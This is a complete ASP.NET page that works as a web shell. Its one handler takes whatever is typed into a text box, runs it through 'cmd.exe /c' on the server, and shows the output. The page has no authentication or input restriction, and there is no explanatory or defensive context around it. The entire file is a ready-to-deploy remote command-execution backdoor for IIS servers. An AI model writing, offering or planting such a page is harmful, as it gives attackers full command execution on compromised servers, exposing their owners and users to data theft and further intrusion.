<%@ Page Language="C#" Debug="true" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Run_Click(object sender, EventArgs e)
{
    ProcessStartInfo info = new ProcessStartInfo("cmd.exe");
    info.Arguments = "/c " + txtArg.Text;
    info.UseShellExecute = false;
    info.RedirectStandardOutput = true;
    Process proc = Process.Start(info);
    lblOut.Text = Server.HtmlEncode(proc.StandardOutput.ReadToEnd());
}
</script>
<html><body><form runat="server">
<asp:TextBox ID="txtArg" runat="server" Width="400px" />
<asp:Button ID="btnRun" runat="server" Text="Run" OnClick="Run_Click" />
<pre><asp:Label ID="lblOut" runat="server" /></pre>
</form></body></html>
